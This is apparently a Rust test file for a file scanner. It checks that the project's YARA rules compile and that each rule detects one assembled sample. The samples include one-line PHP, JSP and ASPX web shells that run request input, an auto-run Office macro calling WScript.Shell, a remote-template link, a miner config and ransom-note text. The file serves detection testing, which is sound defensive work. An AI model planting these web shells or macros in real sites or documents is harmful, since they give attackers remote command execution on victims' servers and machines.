//! The project's own YARA rules compile under the strict compiler and find their samples, and only those.
#![allow(clippy::expect_used, clippy::panic)]

use std::path::Path;

use fengsui_files::{ScanOutcome, YaraRules};

fn own_rules() -> YaraRules {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/yara");
    let mut files: Vec<(String, String)> = std::fs::read_dir(&folder)
        .expect("the folder of rules is there")
        .map(|entry| entry.expect("is readable").path())
        .filter(|path| path.extension().is_some_and(|extension| extension == "yar"))
        .map(|path| {
            let name = path.file_name().expect("has a name").to_string_lossy().into_owned();
            (name, std::fs::read_to_string(&path).expect("is text"))
        })
        .collect();
    files.sort();
    YaraRules::compile(files.iter().map(|(name, text)| (name.as_str(), text.as_str()))).expect("compile")
}

/// Samples are put together here so that the repository holds none that a scanner would take away.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let join = |parts: &[&str]| parts.concat().into_bytes();
    let mut upx = b"MZ".to_vec();
    upx.resize(512, 0);
    upx.extend_from_slice(b"UPX0....UPX1....UPX!");
    let mut vmp = b"MZ".to_vec();
    vmp.resize(512, 0);
    vmp.extend_from_slice(b".vmp0\0\0\0");
    let mut hidden = b"\x89PNG\r\n\x1a\n".to_vec();
    hidden.extend_from_slice(b"This program cannot be run in DOS mode");
    let mut macros = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    macros.extend_from_slice(b"Sub AutoOpen()\nCreateObject(\"WScript.Shell\").Run");
    vec![
        ("webshell_php_eval_request", join(&["<?php @ev", "al($_POST['x']); ?>"])),
        ("webshell_php_decode_then_run", join(&["<?php ev", "al(base64_dec", "ode('QQ==')); ?>"])),
        ("webshell_jsp_runtime_exec", join(&["<% Runtime.getRuntime().ex", "ec(request.getParameter(\"c\")); %>"])),
        (
            "webshell_jsp_class_loader",
            join(&[
                "<%! class U extends ClassLoader { Class g(byte[] b) { return super.define",
                "Class(b,0,1); } } %>",
                "<% request.getReader(); %>",
            ]),
        ),
        (
            "webshell_aspx_eval_request",
            join(&["<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"x\"],\"unsafe\");%>"]),
        ),
        (
            "webshell_aspx_process_start",
            join(&["<% var p = new Process", "StartInfo(\"cmd.exe\", Request[\"c\"]); %>"]),
        ),
        ("eicar_test_file", join(&["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"])),
        ("packed_upx", upx),
        ("packed_known_section", vmp),
        ("executable_behind_image_header", hidden),
        ("miner_configuration", join(&["{\"url\": \"stratum+t", "cp://pool.example:3333\", \"donate-level\": 1}"])),
        ("office_macro_auto_run", macros),
        (
            "office_remote_template",
            join(&[
                "<Relationship Type=\"http://x/relationships/attachedTemplate\" Target=\"http://192.0.2.1/t.dotm\" ",
                "TargetMode=\"External\"/>",
            ]),
        ),
        ("rtf_embedded_object", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 01}}}".to_vec()),
        ("ransom_note_english", b"All your files have been encrypted. Pay in Bitcoin at abc.onion".to_vec()),
        ("ransom_note_chinese", "您的文件已被加密，请用比特币支付".as_bytes().to_vec()),
    ]
}

#[test]
fn every_rule_has_a_sample_and_finds_it() {
    let rules = own_rules();
    let samples = samples();
    assert_eq!(rules.len(), samples.len(), "a rule without a sample, or the other way round");
    for (name, bytes) in samples {
        let outcome = rules.scan(&bytes);
        assert!(outcome.matches().iter().any(|found| found.rule == name), "{name}: {outcome:?}");
    }
}

#[test]
fn harmless_files_match_nothing() {
    let rules = own_rules();
    let page = "<html><body>办事指南：请携带身份证原件。<?php echo htmlspecialchars($_GET['q']); ?></body></html>";
    for bytes in [page.as_bytes(), b"%PDF-1.7 plain", b"<%@ page %><%= request.getParameter(\"q\") %>"] {
        assert_eq!(rules.scan(bytes), ScanOutcome::Complete(Vec::new()));
    }
}
